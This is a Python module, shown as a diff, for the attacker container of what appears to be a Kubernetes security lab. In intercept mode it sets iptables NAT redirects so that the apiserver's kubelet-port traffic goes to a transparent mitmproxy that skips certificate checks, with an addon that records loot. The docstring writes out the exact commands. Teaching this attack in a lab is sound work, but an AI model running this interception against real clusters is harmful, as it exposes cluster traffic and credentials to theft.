@@ -1,0 +1,97 @@
+"""The attacker container's process (``lab role attacker``), in the router's network namespace.
+
+``LAB_ATTACK=off`` (honest): the router forwards, nobody looks. ``LAB_ATTACK=intercept``: for each
+port in ``LAB_ATTACK_PORTS`` (default ``10250``, the kubelet API), connections *from the
+apiserver* are redirected to mitmproxy on the router itself::
+
+    iptables -t nat -A PREROUTING -s 10.221.1.10 -p tcp --dport 10250 -j REDIRECT --to-port 8080
+    mitmdump --mode transparent --listen-port 8080 --ssl-insecure -s lab/attacker/addon.py
+
+mitmproxy finds the original destination itself (SO_ORIGINAL_DST) and opens its own connection
+there (``--ssl-insecure``: it does not check the kubelet's certificate either). Only the apiserver's
+connections are taken, so a learner's own ``curl`` to a kubelet (scenario 3) passes untouched. The
+rules are removed again on SIGTERM (compose's ``init: true`` delivers it here).
+"""
+
+from __future__ import annotations
+
+import os
+import shlex
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+from types import FrameType
+
+from lab.attacker import loot
+from lab.topology import Topology
+
+LISTEN_PORT = 8080
+ADDON = Path(__file__).with_name("addon.py")
+READY = Path("/run/lab/ready")  # touched by the addon once mitmproxy listens
+
+
+def nat_rules(top: Topology, ports: list[int]) -> list[list[str]]:
+    """The PREROUTING rules (without -A/-D) that hand the apiserver's connections to mitmproxy."""
+    return [["PREROUTING", "-s", top.apiserver_ip, "-p", "tcp", "--dport", str(port),
+             "-j", "REDIRECT", "--to-port", str(LISTEN_PORT)] for port in ports]
+
+
+def mitmdump_argv() -> list[str]:
+    return ["mitmdump", "--mode", "transparent", "--listen-port", str(LISTEN_PORT), "--ssl-insecure",
+            "-s", str(ADDON)]
+
+
+def _iptables(op: str, rule: list[str]) -> None:
+    argv = ["iptables", "-t", "nat", op, *rule]
+    print("+ " + shlex.join(argv), flush=True)
+    subprocess.run(argv, check=op == "-A")
+
+
+def _wait_listening(child: subprocess.Popen[bytes], timeout: float = 60.0) -> bool:
+    """Until the addon's ``running`` hook marked mitmproxy ready (so no connection is redirected to a
+    port nobody listens on yet); False if mitmdump died first."""
+    deadline = time.monotonic() + timeout
+    while not READY.exists():
+        if child.poll() is not None or time.monotonic() > deadline:
+            print("attacker: mitmdump did not start; no interception", file=sys.stderr, flush=True)
+            return False
+        time.sleep(0.1)
+    return True
+
+
+def main(top: Topology) -> int:
+    mode = os.environ.get("LAB_ATTACK", "off")
+    if mode == "off":
+        print("attacker: honest mode (LAB_ATTACK=off): the router only forwards, nothing is read", flush=True)
+        loot.record(loot.DEFAULT, "started", mode="off")
+        from lab.roles import role_idle
+
+        role_idle(top)
+        return 0
+    if mode != "intercept":
+        print(f"attacker: LAB_ATTACK must be off or intercept, not {mode!r}", file=sys.stderr)
+        return 2
+    ports = [int(p) for p in os.environ.get("LAB_ATTACK_PORTS", "10250").replace(",", " ").split()]
+    rules = nat_rules(top, ports)
+    argv = mitmdump_argv()
+    print("+ " + shlex.join(argv), flush=True)
+    child = subprocess.Popen(argv)
+
+    def stop(signum: int, frame: FrameType | None) -> None:
+        child.terminate()
+
+    signal.signal(signal.SIGTERM, stop)
+    signal.signal(signal.SIGINT, stop)
+    try:
+        if not _wait_listening(child):
+            return child.wait()
+        for rule in rules:
+            _iptables("-A", rule)
+        return child.wait()
+    finally:
+        for rule in rules:
+            _iptables("-D", rule)
+        if child.poll() is None:
+            child.kill()
